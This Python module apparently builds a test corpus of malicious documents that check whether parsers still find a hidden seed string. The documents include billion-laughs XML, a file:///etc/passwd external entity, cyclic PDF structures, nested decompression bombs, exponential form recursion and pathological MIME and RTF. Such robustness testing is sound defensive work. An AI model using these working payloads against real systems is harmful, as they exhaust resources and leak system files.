"""Documents that grow, hold themselves or never end: XML, PDF, compound files, mail, web pages, RTF."""

import base64
import struct
import zipfile
import zlib

from bombs.archives import packed_zeroes, zipped
from bombs.kinds import EITHER, ENDS, FOUND, PARTIAL, SEED, bomb

BOMBS = []
WORD = "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def word(document, before=""):
    # Stored: what is packed well is left unread for that alone.
    return zipped([("[Content_Types].xml", TYPES), ("word/document.xml", "<?xml version='1.0'?>" + before + document)], zipfile.ZIP_STORED)


@bomb(BOMBS, FOUND)
def billion_laughs():
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return word(WORD % ("&a9; " + SEED.decode()), f"<!DOCTYPE w:document [{entities}]>")


@bomb(BOMBS, FOUND)
def quadratic_entities():
    return word(WORD % ("&a;" * 50_000 + SEED.decode()), f'<!DOCTYPE w:document [<!ENTITY a "{"x" * 100_000}">]>')


@bomb(BOMBS, FOUND)
def entity_that_is_a_file():
    return word(WORD % ("&a; " + SEED.decode()), '<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]>')


@bomb(BOMBS, FOUND)
def entity_that_hides_the_seed():
    return word(WORD % "&a;", f'<!DOCTYPE w:document [<!ENTITY a "{SEED.decode()}">]>')


@bomb(BOMBS, FOUND)
def elements_a_million_deep():
    return word(WORD % ("<x>" * 1_000_000 + SEED.decode()))


@bomb(BOMBS, FOUND)
def attributes_without_end():
    return word(WORD % ("<x " + " ".join(f'a{n}="{n}"' for n in range(60_000)) + "/>" + SEED.decode()))


@bomb(BOMBS, FOUND)
def tags_that_never_close():
    return word(WORD % ("<" * 2_000_000 + " " + SEED.decode()))


@bomb(BOMBS, FOUND)
def spreadsheet_of_far_cells():
    rows = "".join(f'<row r="{n * 500 + 1}"><c r="XFD{n * 500 + 1}" t="inlineStr"><is><t>x</t></is></c></row>' for n in range(2000))
    sheet = f'<worksheet><sheetData>{rows}<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>{SEED.decode()}</t></is></c></row></sheetData></worksheet>'
    return zipped([("[Content_Types].xml", TYPES), ("xl/workbook.xml", '<workbook><sheets><sheet name="S" r:id="r1"/></sheets></workbook>'),
                   ("xl/_rels/workbook.xml.rels", '<Relationships><Relationship Id="r1" Type="x/worksheet" Target="worksheets/s.xml"/></Relationships>'),
                   ("xl/worksheets/s.xml", sheet)])


@bomb(BOMBS, FOUND)
def table_that_repeats_without_end():
    cell = '<table:table-cell table:number-columns-repeated="2147483647" office:value-type="string"><text:p>x</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="2147483647">{cell * 50}</table:table-row>'
    content = f"<office:document-content><office:body><office:spreadsheet><table:table>{row * 50}</table:table><text:p>{SEED.decode()}</text:p></office:spreadsheet></office:body></office:document-content>"
    return zipped([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", content), ("META-INF/manifest.xml", "<manifest/>")])


@bomb(BOMBS, FOUND)
def web_table_of_endless_cells():
    return b"<html><table>" + b'<tr><td colspan="999999999" rowspan="999999999">x</td></tr>' * 20_000 + b"</table><p>" + SEED


@bomb(BOMBS, FOUND)
def web_page_of_open_tags():
    return b"<html>" + b"<a href='" * 300_000 + b"<!--" * 100_000 + SEED


def pdf(objects, trailer="/Root 1 0 R"):
    """A PDF file with a table of its objects, each of which is text or bytes."""
    output, places = b"%PDF-1.7\n", {}
    for number, value in objects.items():
        places[number] = len(output)
        output += b"%d 0 obj\n" % number + (value.encode() if isinstance(value, str) else value) + b"\nendobj\n"
    table = len(output)
    top = max(places) + 1
    output += b"xref\n0 %d\n0000000000 65535 f \n" % top
    for number in range(1, top):
        output += b"%010d 00000 %s \n" % (places.get(number, 0), b"n" if number in places else b"f")
    return output + f"trailer\n<< /Size {top} {trailer} >>\nstartxref\n{table}\n%%EOF\n".encode()


def stream(data, entries=""):
    return f"<< /Length {len(data)} {entries} >>\nstream\n".encode() + data + b"\nendstream"


FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
CATALOG, PAGES = "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>"
SHOWN = b"BT /F1 10 Tf 50 700 Td (" + SEED.strip() + b") Tj ET"


def page(content, entries="", **more):
    return pdf({1: CATALOG, 2: PAGES, 3: PAGE, 4: stream(content, entries), 5: FONT, **{int(key[1:]): value for key, value in more.items()}})


@bomb(BOMBS, EITHER)
def pdf_whose_pages_are_their_own_parents():
    return pdf({1: CATALOG, 2: "<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>", 3: PAGE, 4: stream(SHOWN), 5: FONT})


@bomb(BOMBS, EITHER)
def pdf_with_a_tree_of_pages_without_end():
    nodes = {n: f"<< /Type /Pages /Kids [{n + 1} 0 R {n + 1} 0 R] /Count 1000000000 >>" for n in range(10, 70)}
    return pdf({1: "<< /Type /Catalog /Pages 10 0 R >>", 3: PAGE, 4: stream(SHOWN), 5: FONT, **nodes, 70: PAGE})


@bomb(BOMBS, EITHER)
def pdf_whose_tables_of_places_lead_in_circles():
    data = page(SHOWN)
    place = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)


@bomb(BOMBS, EITHER)
def pdf_whose_bookmarks_lead_in_circles():
    return pdf({1: "<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R >>", 2: PAGES, 3: PAGE, 4: stream(SHOWN), 5: FONT,
                7: "<< /First 8 0 R >>", 8: "<< /Title (a) /Next 9 0 R /First 8 0 R >>", 9: "<< /Title (b) /Next 8 0 R /First 7 0 R >>"})


@bomb(BOMBS, FOUND)
def pdf_whose_names_and_fields_lead_in_circles():
    return pdf({1: "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 7 0 R /JavaScript 7 0 R >> /AcroForm << /Fields [8 0 R 8 0 R] >> >>",
                2: PAGES, 3: PAGE, 4: stream(SHOWN), 5: FONT, 7: "<< /Kids [7 0 R 7 0 R 7 0 R] >>",
                8: "<< /T (a) /V (b) /Kids [8 0 R 9 0 R] >>", 9: "<< /T (c) /Kids [8 0 R] /Parent 9 0 R >>"})


@bomb(BOMBS, PARTIAL)
def pdf_whose_content_is_gigabytes():
    return page(packed_zeroes(1024), "/Filter /FlateDecode")


@bomb(BOMBS, PARTIAL)
def pdf_whose_content_is_packed_eight_times():
    data = packed_zeroes(1024)
    for _ in range(7):
        data = zlib.compress(data, 9)
    return page(data, "/Filter [" + "/FlateDecode " * 8 + "]")


@bomb(BOMBS, PARTIAL)
def pdf_whose_content_runs_on():
    """Runs of 128 zeroes, packed once more."""
    return page(zlib.compress(b"\x81\0" * (8 << 20) + b"\x80", 9), "/Filter [/FlateDecode /RunLengthDecode]")


@bomb(BOMBS, ENDS)
def pdf_with_a_predictor_of_gigabytes():
    return page(zlib.compress(SHOWN), "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2000000000 /Colors 32 /BitsPerComponent 16 >>")


@bomb(BOMBS, EITHER)
def pdf_with_objects_in_a_stream_of_gigabytes():
    """The catalogue lies in a stream of objects that unpacks to a gigabyte."""
    return crossed(catalog_and_a_gigabyte())


@bomb(BOMBS, EITHER)
def pdf_with_objects_in_a_stream_packed_four_times():
    data = catalog_and_a_gigabyte()
    for _ in range(3):
        data = zlib.compress(data, 9)
    return crossed(data, "[" + "/FlateDecode " * 4 + "]")


def catalog_and_a_gigabyte():
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(b"1 0 " + CATALOG.encode()) + packer.flush(zlib.Z_FULL_FLUSH)
    # Its sum is wrong: who looks at it has unpacked all of it.
    return b"\x78\xda" + first + packed_zeroes(1024)[2:]


def crossed(packed, filters="/FlateDecode"):
    """A file whose object 1 lies in the stream of objects 7, as its stream of places says."""
    output, places = b"%PDF-1.7\n", {}
    objects = {2: PAGES, 3: PAGE, 4: stream(SHOWN), 5: FONT, 7: stream(packed, f"/Type /ObjStm /N 1 /First 4 /Filter {filters}")}
    for number, value in objects.items():
        places[number] = len(output)
        output += b"%d 0 obj\n" % number + (value.encode() if isinstance(value, str) else value) + b"\nendobj\n"
    places[8] = len(output)
    rows = b""
    for number in range(9):
        kind, place, index = (2, 7, 0) if number == 1 else (1, places.get(number, 0), 0) if number in places else (0, 0, 0)
        rows += struct.pack(">BIB", kind, place, index)
    output += b"8 0 obj\n" + stream(rows, "/Type /XRef /Size 9 /W [1 4 1] /Root 1 0 R") + b"\nendobj\n"
    return output + b"startxref\n%d\n%%%%EOF\n" % places[8]


@bomb(BOMBS, EITHER)
def pdf_whose_stream_of_objects_is_in_itself():
    output = crossed(zlib.compress(b"1 0 " + CATALOG.encode()))
    return output.replace(b"/Type /ObjStm", b"/Extends 7 0 R /Type /ObjStm")


@bomb(BOMBS, EITHER)
def pdf_whose_forms_double():
    """Each form draws the next one twice: 2^40 drawings."""
    forms = {f"n{n}": stream(b"/X Do /X Do", f"/Subtype /Form /Resources << /XObject << /X {n + 1} 0 R >> >>") for n in range(6, 46)}
    return page(b"/X Do " + SHOWN, **forms, n46=stream(b"", "/Subtype /Form"))


@bomb(BOMBS, ENDS)
def pdf_of_nested_arrays():
    return page(b"[" * 2_000_000 + b" " + SHOWN, n7="[" * 100_000 + "]" * 100_000)


@bomb(BOMBS, ENDS)
def pdf_whose_font_maps_everything():
    ranges = b"1 beginbfrange\n" + b"<0000> <FFFF> <0041>\n" * 2000 + b"endbfrange\n"
    data = page(SHOWN, n7=stream(zlib.compress(ranges * 50), "/Filter /FlateDecode"))
    return data.replace(b"/BaseFont /Helvetica", b"/ToUnicode 7 0 R /BaseFont /X")


@bomb(BOMBS, FOUND)
def rtf_of_a_million_braces():
    return b"{\\rtf1 " + b"{" * 1_000_000 + SEED + b"}" * 1_000_000 + b"}"


@bomb(BOMBS, FOUND)
def rtf_with_binary_data_without_end():
    return b"{\\rtf1 " + SEED + b"\\bin2147483647 " + b"x" * 100_000


@bomb(BOMBS, FOUND)
def mail_of_parts_in_parts():
    head = b"From: a@example.org\nSubject: x\nMIME-Version: 1.0\n"
    body = b""
    for level in range(5000):
        body += b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (level, level)
    return head + body + b"Content-Type: text/plain\n\n" + SEED


@bomb(BOMBS, FOUND)
def mail_in_mail():
    return b"From: a@example.org\nSubject: x\nContent-Type: message/rfc822\n\n" * 3000 + SEED


@bomb(BOMBS, EITHER)
def mail_of_many_parts():
    return (b"From: a@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * 90_000 + b"--b\n\n" + SEED)


@bomb(BOMBS, FOUND)
def mail_with_a_header_of_megabytes():
    return b"From: a@example.org\nSubject: =?utf-8?b?" + base64.b64encode(b"x" * 3_000_000) + b"?=\n" + b"X: y\n" * 300_000 + b"\n" + SEED
